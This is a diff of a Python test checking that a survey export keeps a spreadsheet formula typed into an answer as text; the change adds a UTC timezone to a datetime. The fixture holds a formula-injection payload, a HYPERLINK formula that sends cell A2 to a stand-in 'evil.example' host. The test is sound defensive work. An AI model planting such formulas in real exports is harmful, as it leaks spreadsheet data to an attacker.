@@ -230,7 +230,8 @@ def test_a_formula_typed_into_a_survey_answer_stays_text(eval_round, coordinator
     attack = '=HYPERLINK("http://evil.example/steal?d="&A2,"x")'
     Survey.objects.create(
         round=eval_round, kind=SurveyKind.MUNICIPALITY, wave=Wave.ROUND_END,
-        municipality=eval_round.kiel, due_on=date(2026, 1, 1), answered_at=datetime(2026, 1, 2),
+        municipality=eval_round.kiel, due_on=date(2026, 1, 1), 
+        answered_at=datetime(2026, 1, 2, tzinfo=ZoneInfo("UTC")),
         answers={"workshop_topics": attack}, language="de",
     )  # fmt: skip
     content, _type = export.survey_export(
